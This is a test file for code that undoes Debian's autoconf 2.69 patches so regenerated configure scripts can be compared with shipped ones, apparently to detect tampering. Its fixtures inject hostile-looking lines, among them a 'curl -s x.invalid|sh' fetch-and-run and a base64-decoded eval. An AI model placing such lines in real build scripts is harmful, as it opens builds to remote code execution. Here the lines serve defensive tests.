/**
 * Debian's autoconf 2.69 --runstatedir patch undone exactly: the 13 lines real releases carry (libtool
 * 2.4.7, less 590) in their places, or nothing. The end-to-end check on those releases is in
 * docs/regeneration.md (scripts/regen-eval.sh --releases).
 */
import { describe, expect, it } from 'vitest';
import { trailingBlankLines } from '../../src/regenerate/regenerate.js';
import { undoDebianAutoconf, undoLargefile, undoRunstatedir } from '../../src/regenerate/distro-patches.js';
import { normalisationText } from '../../src/core/wording.js';

const GNU = [
  '#! /bin/sh',
  'oldincludedir',
  'includedir',
  'localstatedir',
  "localstatedir='${prefix}/var'",
  "includedir='${prefix}/include'",
  '  | -silent | --silent | --silen | --sile | --sil)',
  '    silent=yes ;;',
  '',
  '  -sbindir | --sbindir | --sbindi | --sbind | --sbin | --sbi | --sb)',
  'for ac_var in\texec_prefix prefix bindir sbindir libexecdir datarootdir \\',
  '\t\tlibdir localedir mandir',
  'do',
  '  --localstatedir=DIR      modifiable single-machine data [PREFIX/var]',
  '  --libdir=DIR             object code libraries [EPREFIX/lib]',
  '',
].join('\n');

const DEBIAN = [
  '#! /bin/sh',
  'oldincludedir',
  'includedir',
  'runstatedir',
  'localstatedir',
  "localstatedir='${prefix}/var'",
  "runstatedir='${localstatedir}/run'",
  "includedir='${prefix}/include'",
  '  | -silent | --silent | --silen | --sile | --sil)',
  '    silent=yes ;;',
  '',
  '  -runstatedir | --runstatedir | --runstatedi | --runstated \\',
  '  | --runstate | --runstat | --runsta | --runst | --runs \\',
  '  | --run | --ru | --r)',
  '    ac_prev=runstatedir ;;',
  '  -runstatedir=* | --runstatedir=* | --runstatedi=* | --runstated=* \\',
  '  | --runstate=* | --runstat=* | --runsta=* | --runst=* | --runs=* \\',
  '  | --run=* | --ru=* | --r=*)',
  '    runstatedir=$ac_optarg ;;',
  '',
  '  -sbindir | --sbindir | --sbindi | --sbind | --sbin | --sbi | --sb)',
  'for ac_var in\texec_prefix prefix bindir sbindir libexecdir datarootdir \\',
  '\t\tlibdir localedir mandir runstatedir',
  'do',
  '  --localstatedir=DIR      modifiable single-machine data [PREFIX/var]',
  '  --runstatedir=DIR       modifiable per-process data [LOCALSTATEDIR/run]',
  '  --libdir=DIR             object code libraries [EPREFIX/lib]',
  '',
].join('\n');

describe('undoRunstatedir', () => {
  it('removes exactly the 13 lines of the patch, each in its place', () => {
    expect(DEBIAN.split('\n').length - GNU.split('\n').length).toBe(12); // 12 added + 1 changed line
    expect(undoRunstatedir(DEBIAN)?.text).toBe(GNU);
    expect(undoRunstatedir(DEBIAN)?.normalisation).toEqual({ kind: 'debian-runstatedir', args: {} });
    expect(normalisationText(undoRunstatedir(DEBIAN)!.normalisation)).toMatch(/^Debian's autoconf 2\.69 --runstatedir patch/);
  });

  it("gives m4's __oline__ numbers (`$as_me:N:`, N the line's own number) their place without the patch's lines, and no other number", () => {
    // libgpg-error 1.46: gnulib's threadlib.m4 writes `echo "$as_me:__oline__: …"`; the patch's 12 added lines move them.
    const tail = (offset: number) => [`      echo "$as_me:${GNU.split('\n').length + offset}: gl_pthread_api=$gl_pthread_api" >&5`, '      echo "$as_me:7: not its own line" >&5', ''].join('\n');
    const gnu = GNU + tail(0);
    const debian = DEBIAN + tail(12).replace('$as_me:7:', '$as_me:7:');
    expect(undoRunstatedir(debian)).toEqual({ text: gnu, normalisation: { kind: 'debian-runstatedir', args: { renumbered: 1 } } });
    // What a tamperer would change: another number (not the line's own), or other text on such a line — still differs.
    expect(undoRunstatedir(debian.replace(`$as_me:${GNU.split('\n').length + 12}:`, '$as_me:99999:'))?.text).not.toBe(gnu);
    expect(undoRunstatedir(debian.replace('gl_pthread_api=$gl_pthread_api', 'gl_pthread_api=$(curl -s x.invalid|sh)'))?.text).not.toBe(gnu);
  });

  it("__oline__ in a hand-written check's `#line N \"configure\"` and `echo configure:N:` lines (libxml2 2.9.14) is renumbered too; other numbers are not", () => {
    const n = GNU.split('\n').length;
    const tail = (o: number) => ['cat > conftest.$ac_ext <<EOF', `#line ${n + 1 + o} "configure"`, '#include "confdefs.h"', 'EOF', `if { (eval echo configure:${n + 4 + o}: \\"$ac_compile\\") 1>&5; }; then`, '#line 3 "configure"', ''].join('\n');
    expect(undoRunstatedir(DEBIAN + tail(12))).toEqual({ text: GNU + tail(0), normalisation: { kind: 'debian-runstatedir', args: { renumbered: 2 } } });
    // What a tamperer would change: a number that is not the line's own stays as it is, so the file still differs.
    expect(undoRunstatedir(DEBIAN + tail(12).replace(`configure:${n + 16}:`, `configure:${n + 15}:`))?.text).not.toBe(GNU + tail(0));
    expect(undoRunstatedir(DEBIAN + tail(12).replace('#include "confdefs.h"', '#include "/tmp/x.h"'))?.text).not.toBe(GNU + tail(0));
  });

  it('undoes nothing when a block is missing, doubled or altered', () => {
    expect(undoRunstatedir(GNU)).toBeUndefined();
    expect(undoRunstatedir(DEBIAN.replace("runstatedir=$ac_optarg ;;", 'runstatedir=$ac_optarg; eval "$x" ;;'))).toBeUndefined();
    expect(undoRunstatedir(DEBIAN + "\nlocalstatedir='${prefix}/var'\nrunstatedir='${localstatedir}/run'\n")).toBeUndefined();
  });
});

/** AC_SYS_LARGEFILE's check as GNU autoconf 2.69 and Debian's 2.69 (specific.m4 patched in 2.69-6) write it. */
const LARGEFILE_GNU = [
  '    incorrectly reject 9223372036854775807.  */',
  '#define LARGE_OFF_T (((off_t) 1 << 62) - 1 + ((off_t) 1 << 62))',
  '  int off_t_is_large[(LARGE_OFF_T % 2147483629 == 721',
].join('\n');
const LARGEFILE_DEBIAN = LARGEFILE_GNU.replace(
  '(((off_t) 1 << 62) - 1 + ((off_t) 1 << 62))',
  '((((off_t) 1 << 31) << 31) - 1 + (((off_t) 1 << 31) << 31))',
);

describe('undoLargefile / undoDebianAutoconf', () => {
  it("puts every patched LARGE_OFF_T line back in GNU 2.69's form and counts them", () => {
    const debian = `${DEBIAN}${LARGEFILE_DEBIAN}\n${LARGEFILE_DEBIAN}\n${LARGEFILE_DEBIAN}\n`;
    const gnu = `${GNU}${LARGEFILE_GNU}\n${LARGEFILE_GNU}\n${LARGEFILE_GNU}\n`;
    expect(undoLargefile(debian)).toEqual({ text: `${DEBIAN}${LARGEFILE_GNU}\n${LARGEFILE_GNU}\n${LARGEFILE_GNU}\n`, normalisation: { kind: 'debian-largefile', args: { lines: 3 } } });
    expect(undoDebianAutoconf(debian)).toEqual({
      text: gnu,
      normalisations: [
        { kind: 'debian-runstatedir', args: {} },
        { kind: 'debian-largefile', args: { lines: 3 } },
      ],
    });
    expect(normalisationText({ kind: 'debian-largefile', args: { lines: 3 } })).toBe(
      "Debian's autoconf 2.69 AC_SYS_LARGEFILE patch (backported from 2.70): 3 `#define LARGE_OFF_T` lines written with `((off_t) 1 << 31) << 31`, put back in GNU autoconf 2.69's `(off_t) 1 << 62` form before comparing",
    );
  });

  it('applies each patch on its own (Debian 2.69-6 to 2.69-8 had the largefile fix without runstatedir)', () => {
    expect(undoDebianAutoconf(`${GNU}${LARGEFILE_DEBIAN}\n`)).toEqual({ text: `${GNU}${LARGEFILE_GNU}\n`, normalisations: [{ kind: 'debian-largefile', args: { lines: 1 } }] });
    expect(undoDebianAutoconf(DEBIAN)).toEqual({ text: GNU, normalisations: [{ kind: 'debian-runstatedir', args: {} }] });
    expect(undoDebianAutoconf(`${GNU}${LARGEFILE_GNU}\n`)).toBeUndefined();
  });

  it('touches no other line: an altered LARGE_OFF_T line or an added line still differs from the GNU output', () => {
    const altered = `${GNU}${LARGEFILE_DEBIAN.replace('<< 31) << 31) - 1', '<< 30) << 31) - 1')}\n${LARGEFILE_DEBIAN}\n`;
    const undone = undoDebianAutoconf(altered)!;
    expect(undone.normalisations).toEqual([{ kind: 'debian-largefile', args: { lines: 1 } }]);
    expect(undone.text).not.toBe(`${GNU}${LARGEFILE_GNU}\n${LARGEFILE_GNU}\n`);
    expect(undone.text).toContain('#define LARGE_OFF_T ((((off_t) 1 << 30) << 31) - 1 + (((off_t) 1 << 31) << 31))');
    const injected = `${GNU}${LARGEFILE_DEBIAN}\neval "$(echo ZWNobyBoaQ== | base64 -d)"\n`;
    expect(undoDebianAutoconf(injected)!.text).toBe(`${GNU}${LARGEFILE_GNU}\neval "$(echo ZWNobyBoaQ== | base64 -d)"\n`);
  });
});

describe('trailingBlankLines', () => {
  it('only the empty lines ending the file differ (OpenSSH 9.2p1: GNU m4 ends configure with one more); anything else does not pass', () => {
    const b = (s: string) => Buffer.from(s, 'latin1');
    expect(trailingBlankLines(b('a\nfi\n\n'), b('a\nfi\n'))).toEqual({ regenerated: 1, shipped: 0 });
    expect(trailingBlankLines(b('a\nfi\n'), b('a\nfi\n\n\n'))).toEqual({ regenerated: 0, shipped: 2 });
    expect(trailingBlankLines(b('a\nfi\n'), b('a\nfi\n'))).toBeUndefined(); // nothing differs at the end
    // What a tamperer would change: a line, or the last line's end (no newline at all), besides the blank lines.
    expect(trailingBlankLines(b('a\nfi\n\n'), b('b\nfi\n'))).toBeUndefined();
    expect(trailingBlankLines(b('a\nfi\n\n'), b('a\nfi'))).toBeUndefined();
    expect(trailingBlankLines(b('a\nfi\n\n'), b('a\nfi\n\n\n\n\n\n'))).toBeUndefined(); // more than a few
  });
});
